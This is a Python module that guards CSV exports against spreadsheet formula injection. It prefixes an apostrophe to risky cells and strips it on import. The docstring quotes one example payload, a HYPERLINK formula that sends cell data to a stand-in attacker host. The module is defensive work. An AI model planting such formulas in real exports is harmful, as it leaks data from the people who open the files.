"""CSV cells that a spreadsheet will not run as formulas, and read back as they were.

A partner can type ``=HYPERLINK("https://evil.example/?"&A1,"x")`` as their name on the
public form. Written as is into an export, a spreadsheet runs it when staff open the file.
As OWASP advises, a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is written with a leading apostrophe, which spreadsheets read as "this is text".
The importer removes exactly that apostrophe, so export then import gives back the same
text, also for a value that itself began with apostrophes before such a character.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

_FORMULA_START = re.compile(r"'*[=+\-@\t\r]")


def safe_cell(value: object) -> object:
    """``value``, with one more leading apostrophe if a spreadsheet could run it."""
    if isinstance(value, str) and _FORMULA_START.match(value):
        return "'" + value
    return value


def read_cell(value: str) -> str:
    """The text a cell written by ``safe_cell`` stands for (other cells unchanged)."""
    if value.startswith("'") and _FORMULA_START.match(value, 1):
        return value[1:]
    return value


def read_cells(fields: list[str]) -> list[str]:
    """``read_cell`` over a row; the row itself when no cell needs it (the common case)."""
    if not any(field.startswith("'") for field in fields):
        return fields
    return [read_cell(field) for field in fields]


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, output: IO[str], **options: Any) -> None:
        self._writer = csv.writer(output, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])
